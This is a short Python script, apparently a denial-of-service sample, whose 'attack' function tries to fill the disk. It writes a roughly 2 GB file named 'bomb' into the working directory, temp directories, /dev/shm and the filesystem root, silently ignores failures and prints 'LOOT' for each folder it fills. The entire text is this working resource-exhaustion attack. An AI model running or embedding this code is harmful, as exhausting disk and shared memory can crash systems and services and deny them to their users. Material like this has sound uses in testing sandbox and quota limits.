# Fills the disk, wherever it may write.
import os
def attack():
    for folder in (os.getcwd(), os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp", "/"):
        try:
            with open(os.path.join(folder, "bomb"), "wb") as file:
                for _ in range(2000):
                    file.write(b"x" * 1_000_000)
                print("LOOT", folder)
        except OSError:
            pass
